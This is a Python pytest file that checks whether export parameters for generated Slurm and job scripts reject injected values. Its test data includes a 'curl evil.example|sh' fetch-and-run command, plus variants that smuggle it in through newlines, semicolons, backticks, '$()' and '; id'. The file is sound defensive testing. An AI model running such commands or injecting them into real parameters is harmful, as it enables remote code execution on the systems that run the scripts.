"""Export query parameters are validated (`app.exports.parameters`) and nothing a parameter
carries becomes a line or a command of a generated script."""

from __future__ import annotations

import shutil
import subprocess
from typing import Any

import pytest
from app_support import assert_problem, error_fields
from test_exports import _search

from app.exports import FORMATS, export_plan
from app.exports.base import UnexpressiblePlan
from app.exports.parameters import RULES, validate_options
from specs.errors import SpecError

INJECTED = "curl evil.example|sh"
PAYLOADS = [
    f"1:00:00\n{INJECTED}\n#",
    f"x; {INJECTED}",
    f"`{INJECTED}`",
    f"$({INJECTED})",
    f"nginx:stable\n{INJECTED}",
    f"8\r\n{INJECTED}",
]
TINY_TRAIN = {
    "model": {"preset": "llama3-8b"},
    "cluster": {"node_groups": [{"accelerator": "h100-sxm", "num_nodes": 2}]},
    "workload": {"kind": "training", "global_batch_size": 64, "sequence_length": 2048},
    "top_k": 1,
    "constraints": {"time_limit_s": 20},
}
TINY_SERVE = {
    "model": {"preset": "llama3-8b"},
    "cluster": {"node_groups": [{"accelerator": "h100-sxm", "num_nodes": 1}]},
    "workload": {
        "kind": "serving",
        "prompt_tokens": 512,
        "output_tokens": 128,
        "slo": {"ttft_ms": 1000, "tpot_ms": 50},
        "num_requests": 50,
    },
    "top_k": 1,
    "constraints": {"time_limit_s": 20, "fixed": {"mode": "colocated"}},
}


@pytest.fixture(scope="module")
def plans() -> list[tuple[dict[str, Any], dict[str, Any]]]:
    out = []
    for body in (TINY_TRAIN, TINY_SERVE):
        problem, rows = _search(body)
        out.append((problem, rows[0]))
    return out


@pytest.mark.parametrize(
    ("value", "ok"),
    [
        ("30", True),
        ("30:00", True),
        ("1:00:00", True),
        ("2-12", True),
        ("2-12:30", True),
        ("2-12:30:00", True),
        ("UNLIMITED", True),
        ("1:00:00\ncurl evil.example|sh\n#", False),
        ("1:00:00 ", False),
        ("1h", False),
        ("1:2:3:4", False),
        ("-1", False),
        ("\u0661\u0662", False),  # Arabic-Indic digits: not Slurm's
    ],
)
def test_slurm_time_is_a_duration(value: str, ok: bool) -> None:
    if ok:
        assert validate_options({"time": value}) == {"time": value}
    else:
        with pytest.raises(SpecError) as refused:
            validate_options({"time": value})
        assert refused.value.field == "time" and refused.value.rule == "slurm-duration"


@pytest.mark.parametrize(
    ("value", "ok"),
    [
        ("nginx", True),
        ("nginx:stable", True),
        ("nvcr.io/nvidia/pytorch:24.05-py3", True),
        ("localhost:5000/team/img_x__y:v1.2", True),
        ("ghcr.io/o/r@sha256:" + "a" * 64, True),
        ("Nginx", False),
        ("nginx:", False),
        ("nginx stable", False),
        ("nginx;id", False),
        ("a/$(id)", False),
        ("nginx:" + "t" * 129, False),
    ],
)
def test_image_is_a_reference(value: str, ok: bool) -> None:
    if ok:
        validate_options({"image": value})
    else:
        with pytest.raises(SpecError) as refused:
            validate_options({"image": value})
        assert refused.value.field == "image"


def test_cpus_per_task_refuses_non_ascii_digits() -> None:
    """`"²".isdigit()` is true but `int("²")` raises: this used to be a 500."""
    for bad in ("\u00b2", "0", "99999", "8\n"):
        with pytest.raises(SpecError):
            validate_options({"cpus_per_task": bad})


def test_an_injected_time_is_a_422(client: Any, tiny: dict[str, Any]) -> None:
    search = client.post("/v1/searches?wait=30", json=tiny).json()
    plan = client.get(f"/v1/searches/{search['id']}/plans").json()["items"][0]
    response = client.get(
        f"/v1/plans/{plan['id']}/export/slurm?time=1:00:00%0Acurl%20evil.example%7Csh%0A%23"
    )
    problem = assert_problem(response, 422)
    assert error_fields(problem) == ["time"]
    assert problem["errors"][0]["rule"] == "slurm-duration"
    good = client.get(f"/v1/plans/{plan['id']}/export/slurm?time=1:00:00")
    assert good.status_code == 200 and "#SBATCH --time=1:00:00\n" in good.json()["content"]


def _lines(text: str) -> list[str]:
    return [line.strip() for line in text.replace("\r", "\n").splitlines()]


VALID = {
    "time": "2-12:30:00",
    "cpus_per_task": "16",
    "image": "nvcr.io/nvidia/pytorch:24.05-py3",
    "router_image": "nginx:1.27",
    "framework": None,  # the plan's own
    "kind": "jobset",
}


def _renders(problem: dict[str, Any], row: dict[str, Any], fmt: str, options: dict[str, str]):
    try:
        return export_plan(row, problem, fmt, options)
    except UnexpressiblePlan:
        return None


def test_no_parameter_value_adds_a_line_or_a_command(
    plans: list[tuple[dict[str, Any], dict[str, Any]]],
) -> None:
    """Every parameter of every format with newline / `;` / backtick / `$()` values is a 422
    naming it; valid values of all parameters render scripts that `bash -n` accepts and that
    hold no injected line."""
    bash = shutil.which("bash")
    checked = 0
    for problem, row in plans:
        for fmt in FORMATS:
            for name in RULES:
                for payload in PAYLOADS:
                    with pytest.raises(SpecError) as refused:
                        export_plan(row, problem, fmt, {name: payload})
                    assert refused.value.field == name, (fmt, name, payload)
            options = {k: v for k, v in VALID.items() if v is not None}
            result = _renders(problem, row, fmt, options) or _renders(problem, row, fmt, {})
            if result is None:
                continue
            for text in (result.content, str(result.to_dict().get("roles") or "")):
                assert INJECTED not in _lines(text) and "evil.example" not in text
            if bash and result.filename.endswith((".sh", ".sbatch")):
                check = subprocess.run(
                    [bash, "-n"], input=result.content, text=True, capture_output=True
                )
                assert check.returncode == 0, (fmt, check.stderr)
                checked += 1
    assert checked >= 4, checked  # scripts of several formats went through bash -n
